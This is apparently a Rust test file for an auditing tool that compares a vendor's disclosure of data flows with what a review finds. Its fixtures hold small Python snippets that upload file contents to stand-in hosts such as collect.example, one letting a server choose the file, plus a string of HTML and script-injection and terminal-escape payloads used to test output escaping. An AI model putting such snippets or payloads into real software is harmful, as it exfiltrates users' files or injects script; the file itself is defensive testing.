//! A vendor's disclosure, held against what a review finds: each item and each finding has its outcome, nothing goes away by one,
//! and only the auditor's policy lets a match count for something.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use candor::assess;
use candor::base::display;
use candor::report::model::{DisclosureOutcome, Disclosures, Report, VerdictValue};
use tempfile::TempDir;

use super::intake_support::write;

/// Contents of a file to one host, and the host's name to another.
const AGENT: &str = "import requests\nimport socket\n\n\ndef send(path):\n    \
    requests.post('https://collect.example/in', data=open(path).read())\n\n\ndef enrol():\n    \
    requests.post('https://inventory.example/', json={'name': socket.gethostname()})\n";

/// The first function, where a server names the file.
const REMOTE: &str = "import requests\n\n\ndef poll():\n    path = requests.get('https://control.example/next').text\n    \
    requests.post('https://collect.example/in', data=open(path).read())\n";

/// Two ends of the same data behind one sink, in two files.
const SHARED: [(&str, &str); 3] = [
    ("agent/send.py", "import requests\n\n\ndef send(body):\n    requests.post('https://collect.example/in', data=body)\n"),
    ("agent/a.py", "from agent.send import send\n\n\ndef a():\n    send(open('/var/log/a').read())\n"),
    ("agent/b.py", "from agent.send import send\n\n\ndef b():\n    send(open('/var/log/b').read())\n"),
];

/// One item, whose lines can be changed.
fn item(id: &str, data: &str, endpoint: &str, more: &str) -> String {
    format!(
        "[[disclosure]]\nid = \"{id}\"\ndata = [\"{data}\"]\nchannel = \"egress.http\"\nendpoints = [\"{endpoint}\"]\n\
         purpose = \"so that the service can be given\"\n{more}\n"
    )
}

fn both() -> String {
    item("logs", "FILE", "collect.example", "") + &item("inventory", "DEVICE", "*.example", "")
}

struct House(TempDir);

impl House {
    fn of(files: &[(&str, &str)]) -> Self {
        let house = Self(tempfile::tempdir().expect("a scratch folder"));
        files.iter().for_each(|(path, text)| write(&house.0.path().join("in"), path, text.as_bytes()));
        house
    }

    fn agent() -> Self {
        Self::of(&[("agent/agent.py", AGENT)])
    }

    fn candor(&self, args: &[&str]) -> (i32, String, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", self.0.path()).current_dir(self.0.path()).stdin(Stdio::null()).args(args);
        let output = command.output().expect("it runs");
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("UTF-8");
        (output.status.code().expect("no signal"), text(output.stdout), text(output.stderr))
    }

    fn file(&self, name: &str, text: &str) {
        fs::write(self.0.path().join(name), text).expect("written");
    }

    fn read(&self, name: &str) -> String {
        fs::read_to_string(self.0.path().join(name)).expect("a file")
    }

    /// Puts a disclosure into the submission.
    fn disclose(&self, text: &str) {
        write(&self.0.path().join("in"), "candor.disclosure.toml", text.as_bytes());
    }

    /// Reviews; exit code and report.
    fn review(&self, more: &[&str]) -> (i32, Report) {
        let (code, _, err) = self.candor(&[&["review", "in", "--quiet"], more].concat());
        assert!(err.is_empty() || err.starts_with("note: made a signing key"), "{err}");
        let output = more.iter().find_map(|arg| arg.strip_prefix("--output=")).unwrap_or("in.candor");
        let bytes = fs::read(self.0.path().join(output).join("report.json")).expect("a report");
        (code, Report::from_json(&bytes).expect("a sound report"))
    }
}

/// `id outcome`, one an item; then the classes of findings that nothing declares whole.
fn outcomes(report: &Report) -> (Vec<String>, Vec<&str>) {
    let disclosures = report.disclosures.as_ref().expect("a disclosure");
    let items = disclosures.items.iter().map(|item| format!("{} {}", item.id, item.outcome.name())).collect();
    let open = report.findings.iter().filter(|finding| finding.disclosure.is_none()).map(|finding| finding.class.as_str());
    (items, open.collect())
}

#[test]
fn findings_are_held_against_what_is_declared() {
    let house = House::agent();
    let upload = "file-upload";
    let device = "device-information";
    let cases: &[(String, &[&str], &[&str])] = &[
        (both(), &["logs matched", "inventory matched"], &[]),
        // Another host, another kind of data, another channel, a host where the code names one: not what was declared.
        (item("logs", "FILE", "other.example", ""), &["logs unseen"], &[upload, device]),
        (item("logs", "CREDENTIAL", "collect.example", ""), &["logs unseen"], &[upload, device]),
        (both().replace("egress.http", "egress.mail"), &["logs unseen", "inventory unseen"], &[upload, device]),
        (item("logs", "FILE", "chosen-at-run-time", ""), &["logs unseen"], &[upload, device]),
        // A name is not the names below it, nor the other way round.
        (item("logs", "FILE", "*.collect.example", ""), &["logs unseen"], &[upload, device]),
        (item("logs", "FILE", "*", ""), &["logs matched"], &[device]),
        (item("all", "FILE", "*", "").replace("\"FILE\"", "\"FILE\", \"DEVICE\""), &["all matched"], &[]),
        (both().replace("egress.http", "network"), &["logs matched", "inventory matched"], &[]),
        (both().replace("egress.http", "egress"), &["logs matched", "inventory matched"], &[]),
        // Only code that it speaks of.
        (item("logs", "FILE", "collect.example", "path = \"agent\""), &["logs matched"], &[device]),
        (item("logs", "FILE", "collect.example", "path = \"**/agent.*\""), &["logs matched"], &[device]),
        (item("logs", "FILE", "collect.example", "path = \"lib\""), &["logs unseen"], &[upload, device]),
        // Declared, and not there.
        (both() + &item("screen", "SCREEN", "*", ""), &["logs matched", "inventory matched", "screen unseen"], &[]),
        ("# nothing\n".to_owned(), &[], &[upload, device]),
    ];
    for (text, items, open) in cases {
        house.disclose(text);
        let (code, report) = house.review(&[]);
        let (found, undeclared) = outcomes(&report);
        assert_eq!((found, undeclared), (items.iter().map(|item| (*item).to_owned()).collect(), open.to_vec()), "{text}");
        assert_eq!((code, report.findings.len()), (1, 2), "what is disclosed still counts without a policy");
        assert_eq!(report.disclosures.expect("one").undeclared, open.len() as u64);
    }
}

#[test]
fn who_chooses_the_data_is_a_part_of_what_is_declared() {
    let house = House::of(&[("agent/agent.py", REMOTE)]);
    house.disclose(&item("logs", "FILE", "collect.example", ""));
    let (_, report) = house.review(&[]);
    let directed = |report: &Report| {
        let found = report.findings.iter().find(|finding| finding.class == "remote-directed-file-collection");
        found.expect("found").clone()
    };
    let gap = report.disclosures.as_ref().and_then(|disclosures| disclosures.gap(&directed(&report))).expect("a gap");
    assert_eq!((gap.declared, gap.lacks.as_str()), (0, "logs does not say chosen-by NETWORK"));
    house.disclose(&item("logs", "FILE", "collect.example", "chosen-by = [\"NETWORK\"]"));
    let (_, report) = house.review(&[]);
    assert_eq!(directed(&report).disclosure.as_deref(), Some("logs"));
}

#[test]
fn every_way_of_a_finding_has_to_be_declared() {
    let house = House::of(&SHARED);
    let a = item("a", "FILE", "collect.example", "path = \"agent/a.py\"");
    let b = item("b", "FILE", "collect.example", "path = \"agent/b.py\"");
    house.disclose(&a);
    let (_, report) = house.review(&[]);
    assert_eq!(report.findings.len(), 1, "one sink, one finding");
    let disclosures = report.disclosures.as_ref().expect("one");
    let gap = &disclosures.gaps[0];
    assert!(0 < gap.declared && gap.declared < gap.all, "{gap:?}");
    assert_eq!((disclosures.items[0].outcome, disclosures.undeclared), (DisclosureOutcome::Partly, 1));
    assert!(gap.lacks.starts_with("a is not about the code in agent/"), "{}", gap.lacks);
    // Two items together.
    house.disclose(&(a + &b + &item("c", "FILE", "collect.example", "path = \"agent/send.py\"")));
    let (_, report) = house.review(&[]);
    assert_eq!(report.findings[0].disclosure.as_deref(), Some("a, b, c"));
}

/// What the vendor of the made-up agent says too little of stays undeclared, and what it says too much of is said to be unseen.
#[test]
fn a_disclosure_that_says_too_little_hides_nothing() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let house = House(tempfile::tempdir().expect("a scratch folder"));
    let (agent, disclosure) = (root.join("tests/cases/acme-agent"), root.join("tests/disclosures/acme-agent.toml"));
    let disclosure = format!("--disclosure={}", disclosure.display());
    let (code, _, err) = house.candor(&["review", agent.to_str().expect("UTF-8"), "--output=a.candor", "--quiet", &disclosure]);
    assert_eq!(code, 1, "{err}");
    let report = Report::from_json(&fs::read(house.0.path().join("a.candor/report.json")).expect("a report")).expect("sound");
    let (items, open) = outcomes(&report);
    assert_eq!(items, ["inventory matched", "update matched", "log partly", "sound unseen"]);
    let declared = report.findings.iter().filter(|finding| finding.disclosure.is_some());
    let declared: Vec<&str> = declared.map(|finding| finding.class.as_str()).collect();
    assert_eq!(declared, ["download-and-execute", "device-information"]);
    for class in ["remote-directed-file-collection", "remote-shell", "screen-capture", "credential-exfiltration"] {
        assert!(open.contains(&class), "{class}");
    }
    let lacks: Vec<&str> = report.disclosures.iter().flat_map(|all| &all.gaps).map(|gap| gap.lacks.as_str()).collect();
    assert!(lacks.contains(&"log does not say chosen-by NETWORK"), "{lacks:?}");
    assert!(lacks.contains(&"update is not about the code in lib/src/remote.c"), "{lacks:?}");
}

#[test]
fn a_policy_decides_what_a_match_is_worth() {
    let house = House::agent();
    house.file("policy.toml", "[count]\ndisclosed = false\n");
    let judged = ["--policy=policy.toml"];
    let (code, report) = house.review(&judged);
    assert_eq!((code, report.judgement.expect("judged").disclosed.len()), (1, 0), "nothing was disclosed");
    house.disclose(&item("logs", "FILE", "collect.example", ""));
    let (code, report) = house.review(&judged);
    assert_eq!((code, report.judgement.as_ref().expect("judged").disclosed.len()), (1, 1));
    house.disclose(&both());
    let (code, report) = house.review(&judged);
    assert_eq!((code, report.verdict.value, report.findings.len()), (0, VerdictValue::Passed, 2));
    let page = house.read("in.candor/report.html");
    assert!(page.contains("not counted by the policy, as the vendor disclosed them: F001, F002"));
    let sarif = house.read("in.candor/report.sarif.json");
    assert_eq!(sarif.matches("the auditor's policy does not count what the vendor disclosed").count(), 2, "marked, not dropped");
    let (code, report) = house.review(&["--policy=policy.toml", "--baseline=in.candor"]);
    assert_eq!((code, report.disclosures.expect("one").earlier.is_some()), (0, true), "not wider than itself");
}

#[test]
fn what_is_wider_than_before_declares_nothing_for_a_policy() {
    let house = House::agent();
    house.file("policy.toml", "[count]\ndisclosed = false\n");
    house.disclose(&item("logs", "FILE", "collect.example", "path = \"agent\""));
    house.review(&["--output=old.candor"]);
    let again = ["--policy=policy.toml", "--baseline=old.candor"];
    for (text, widened) in [
        (item("logs", "FILE", "collect.example", ""), "path: any code (was agent)"),
        (item("logs", "FILE", "*.example", "path = \"agent\""), "endpoints: *.example"),
        (item("other", "DEVICE", "inventory.example", ""), "no item of the earlier disclosure declares it"),
    ] {
        house.disclose(&text);
        let (code, report) = house.review(&again);
        let disclosures = report.disclosures.as_ref().expect("one");
        let item = &disclosures.items[0];
        assert_eq!((item.outcome, item.widened.join("; ").as_str()), (DisclosureOutcome::Widened, widened));
        assert_eq!((item.findings.len(), disclosures.undeclared), (1, 1), "it is declared, and said to be wider");
        assert_eq!((code, report.judgement.expect("judged").disclosed.len()), (1, 0));
        let args = [&["rerun", "in.candor", "in", "--quiet", "--output=again.jsonl"][..], &again].concat();
        let (code, out, err) = house.candor(&args);
        assert_eq!(code, 0, "{out}{err}");
        fs::remove_file(house.0.path().join("again.jsonl")).expect("written");
    }
    // Renamed and narrowed: no wider.
    house.disclose(&item("log-upload", "FILE", "collect.example", "path = \"agent\""));
    let (_, report) = house.review(&again);
    assert_eq!(outcomes(&report).0, ["log-upload matched"]);
}

#[test]
fn an_auditor_may_give_a_disclosure_and_a_rerun_needs_the_same() {
    let house = House::agent();
    house.disclose(&item("theirs", "FILE", "collect.example", ""));
    house.file("given.toml", &both());
    let (_, report) = house.review(&["--disclosure=given.toml"]);
    assert_eq!(outcomes(&report).0, ["logs matched", "inventory matched"]);
    assert!(report.diagnostics.iter().any(|notice| notice.code == "disclosure-set-aside"));
    let rerun = |more: &[&str]| house.candor(&[&["rerun", "in.candor", "in", "--quiet"], more].concat());
    let (code, out, err) = rerun(&["--disclosure=given.toml"]);
    assert_eq!(code, 0, "{out}{err}");
    let (code, _, err) = rerun(&[]);
    assert!(code == 2 && err.contains("help: give it with --disclosure FILE: the one with sha256:"), "{err}");
    house.file("given.toml", &item("logs", "FILE", "*", ""));
    let (code, _, err) = rerun(&["--disclosure=given.toml"]);
    assert!(code == 2 && err.contains("the review was given another disclosure"), "{err}");
    // What lies in the submission comes again by itself.
    house.review(&[]);
    let (code, out, err) = rerun(&[]);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn a_broken_disclosure_of_a_submission_stops_nothing_and_declares_nothing() {
    let house = House::agent();
    for (text, says) in [
        (item("logs", "FIEL", "collect.example", ""), "line 3: `FIEL` is no kind of data"),
        (item("logs", "FILE", "collect.example", "surprise = 1"), "line 7: unknown field `surprise`"),
        (both().replace("inventory", "logs"), "line 9: `logs` is the id of the item in line 2 already"),
        ("\u{1b}[2J = = \u{202e}".to_owned(), "line 1: "),
        (both() + "\0", "line "),
        ("#".repeat(300 << 10), "bytes, more than"),
    ] {
        house.disclose(&text);
        let (code, report) = house.review(&[]);
        let disclosures = report.disclosures.as_ref().expect("told");
        assert_eq!((code, disclosures.usable, disclosures.items.len(), disclosures.undeclared), (1, false, 0, 2), "{says}");
        let notice = report.diagnostics.iter().find(|notice| notice.code == "disclosure-unusable").expect("a message");
        assert!(notice.message.contains(says), "{}", notice.message);
        assert!(notice.help.as_ref().is_some_and(|help| help.contains("candor disclose check")));
        // Given by the auditor it is a mistake of the command.
        house.file("given.toml", &text);
        let (code, _, err) = house.candor(&["review", "in", "--disclosure=given.toml", "--output=x.candor", "--quiet"]);
        assert!(code == 2 && err.contains(says) && err.contains("help: "), "{err}");
        let (code, out, err) = house.candor(&["disclose", "check", "given.toml"]);
        assert!(code == 1 && out.contains(says) && err.is_empty(), "{out}{err}");
    }
}

#[test]
fn a_draft_is_refused_until_it_is_filled_in_and_then_declares_everything() {
    let house = House::agent();
    let (_, report) = house.review(&[]);
    assert!(report.disclosures.is_none());
    let (code, out, err) = house.candor(&["disclose", "init", "in.candor", "--output=draft.toml"]);
    assert!(code == 0 && out.contains("draft.toml"), "{out}{err}");
    let (code, _, err) = house.candor(&["disclose", "init", "in.candor", "--output=draft.toml"]);
    assert!(code == 2 && err.contains("help: "), "a file that is there stays: {err}");
    let (code, out, _) = house.candor(&["disclose", "check", "draft.toml"]);
    assert!(code == 1 && out.contains("the purpose of `device-http` is not filled in: say why"), "{out}");
    house.file("filled.toml", &house.read("draft.toml").replace("\"…\"", "\"as the manual says\""));
    let (code, out, _) = house.candor(&["disclose", "check", "filled.toml"]);
    assert_eq!((code, out.as_str()), (0, "it can be used; items: 2\n"));
    let (code, out, _) = house.candor(&["disclose", "try", "filled.toml", "in.candor"]);
    assert!(code == 0 && out.contains("the vendor's disclosure declares every finding"), "{out}");
    let (code, from_json, _) = house.candor(&["disclose", "init", "in.candor/report.json"]);
    assert_eq!((code, from_json), (0, house.read("draft.toml")));
    let (code, template, _) = house.candor(&["disclose", "init"]);
    assert!(code == 0 && template.contains("# purpose = "), "{template}");
    house.file("template.toml", &template);
    assert_eq!(house.candor(&["disclose", "check", "template.toml"]).0, 0);
    // The template with its marks taken off is a disclosure as well.
    let bare =
        template.lines().filter_map(|line| line.strip_prefix("# ")).filter(|line| line.contains(" = ") || line.starts_with("[["));
    let bare = bare.filter(|line| line.starts_with("[[") || line.split(" = ").next().is_some_and(|key| !key.contains(' ')));
    house.file("template.toml", &bare.collect::<Vec<_>>().join("\n"));
    let (code, out, _) = house.candor(&["disclose", "check", "template.toml"]);
    assert_eq!((code, out.as_str()), (0, "it can be used; items: 1\n"));
    for args in [
        &["disclose", "init", "nowhere"][..],
        &["disclose", "init", "filled.toml"],
        &["disclose", "check", "nowhere.toml"],
        &["disclose", "try", "draft.toml", "in.candor"],
        &["disclose", "try", "in.candor", "filled.toml"],
        &["review", "in", "--disclosure=nowhere.toml"],
    ] {
        let (code, out, err) = house.candor(args);
        assert!(code == 2 && out.is_empty() && err.contains("help: "), "{args:?}: {out}{err}");
    }
}

#[test]
fn what_a_vendor_writes_acts_on_no_reader() {
    const HOSTILE: &str =
        "\\u001b[2J\\u202e</td><script>alert(1)</script><img src=x onerror=alert(1)> @all [a](javascript:b) \\u0000";
    let house = House::agent();
    let more = format!("trigger = \"{HOSTILE}\"\nconsent = \"{HOSTILE}\"\npath = \"**/*{}*\"", "<b>\\u202e");
    house.disclose(&(both().replace("so that", HOSTILE) + &item("hostile", "FILE", "*", &more)));
    let (_, report) = house.review(&[]);
    assert_eq!(outcomes(&report).0, ["logs matched", "inventory matched", "hostile unseen"]);
    let page = house.read("in.candor/report.html");
    assert!(!page.contains("<script") && !page.contains("<img") && page.contains("&#60;script&#62;"), "shown as text");
    let (_, text, _) = house.candor(&["review", "in"]);
    for shown in [&page, &text, &house.read("in.candor/report.sarif.json")] {
        assert_eq!(shown.chars().find(|&character| character != '\n' && display::is_unsafe(character)), None);
    }
    assert!(text.contains("What the vendor discloses") && text.contains("hostile"), "{text}");
}

/// A worker that read hostile bytes may say anything: what it says of a disclosure has to follow from the rest.
#[test]
fn outcomes_that_do_not_follow_are_refused() {
    let house = House::agent();
    house.disclose(&item("logs", "FILE", "other.example", ""));
    let (_, report) = house.review(&[]);
    assert!(assess::follows(&report));
    let matched = |report: &mut Report| {
        let id = report.findings[0].id.clone();
        report.findings[0].disclosure = Some("logs".to_owned());
        let disclosures = report.disclosures.as_mut().expect("one");
        (disclosures.undeclared, disclosures.gaps) = (1, Vec::new());
        disclosures.items[0].findings.push(id);
        disclosures.items[0].outcome = DisclosureOutcome::Matched;
    };
    let everything = |report: &mut Report| {
        let disclosures = report.disclosures.take().expect("one");
        let mut wide = disclosures.items[0].clone();
        (wide.data, wide.endpoints) = (vec!["EVERYTHING".to_owned()], vec!["*".to_owned()]);
        report.disclosures = Some(Disclosures { items: vec![wide], gaps: Vec::new(), ..disclosures });
    };
    for bend in [&matched as &dyn Fn(&mut Report), &everything] {
        let mut bent = report.clone();
        bend(&mut bent);
        bent.check().expect("sound in form");
        assert!(!assess::follows(&bent));
    }
}
